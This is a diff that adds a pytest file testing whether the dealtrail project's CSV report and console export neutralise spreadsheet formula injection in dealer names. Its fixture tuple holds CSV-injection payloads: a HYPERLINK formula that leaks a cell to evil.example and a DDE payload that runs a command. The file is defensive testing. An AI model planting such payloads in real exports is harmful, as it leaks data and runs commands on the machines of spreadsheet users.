@@ -1,0 +1,78 @@
+"""Outputs that cannot attack their reader (issue 19, item 7): every CSV dealtrail writes
+neutralises cells a spreadsheet would run, while the Parquet beside it keeps the raw values."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import duckdb
+import pytest
+from fastapi.testclient import TestClient
+
+from dealtrail.audit import audit_file
+from dealtrail.console import auth
+from dealtrail.console.app import ConsoleConfig, create_app
+from dealtrail.simulator.run import write_simulation
+from projections.report import write_report
+from projections.reviews import ReviewDue
+from projections.spreadsheet import FORMULA_STARTS
+from projections.store import Store
+
+DUE = ReviewDue(voiding=24, integrity=24, procedural=72)
+HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A short simulated shift whose dealers are named like spreadsheet formulas (a dealer ID may
+    hold any printable text), audited into a store: its findings name those dealers."""
+    folder = tmp_path_factory.mktemp("hostile")
+    events = folder / "events.jsonl"
+    write_simulation(events, tables=2, hours=0.5, seed=5, error_rate=0.3)
+    lines = []
+    for i, line in enumerate(events.read_text().splitlines()):
+        event = json.loads(line)
+        if event["type"] == "RoundStarted":
+            event["dealer_id"] = HOSTILE[i % len(HOSTILE)]
+        lines.append(json.dumps(event))
+    events.write_text("\n".join(lines) + "\n")
+    db = folder / "hostile.duckdb"
+    with Store(db) as store:
+        audit_file(events, store, chain=False)
+    return db
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_report_csv_neutralises_formula_cells_and_the_parquet_keeps_them_raw(
+    hostile_store: Path, tmp_path: Path
+) -> None:
+    files = write_report(hostile_store, tmp_path / "report")
+    cells = _cells(files.csv.read_text(encoding="utf-8"))
+    assert cells and not [c for c in cells if c[:1] in FORMULA_STARTS]
+    assert {"'" + h for h in HOSTILE} <= set(cells)
+    with duckdb.connect() as con:
+        raw = {r[0] for r in con.execute(f"SELECT DISTINCT dealer_id FROM '{files.parquet}'").fetchall()}
+    assert set(HOSTILE) <= raw
+
+
+def test_console_csv_export_neutralises_formula_cells(hostile_store: Path, tmp_path: Path) -> None:
+    db = tmp_path / "console.duckdb"
+    db.write_bytes(hostile_store.read_bytes())
+    with Store(db) as store:
+        auth.add_user(store.con, "vic", "viewer", "vic-viewer-pass", datetime(2026, 11, 1, tzinfo=UTC))
+        client = TestClient(create_app(store, ConsoleConfig(DUE, "s" * 48)))
+        page = client.get("/login")
+        csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
+        client.post("/login", data={"username": "vic", "password": "vic-viewer-pass", "csrf": csrf, "next": "/"})
+        r = client.get("/findings.csv")
+    assert r.status_code == 200
+    cells = _cells(r.text)
+    assert cells and not [c for c in cells if c[:1] in FORMULA_STARTS]
+    assert {"'" + h for h in HOSTILE} <= set(cells)
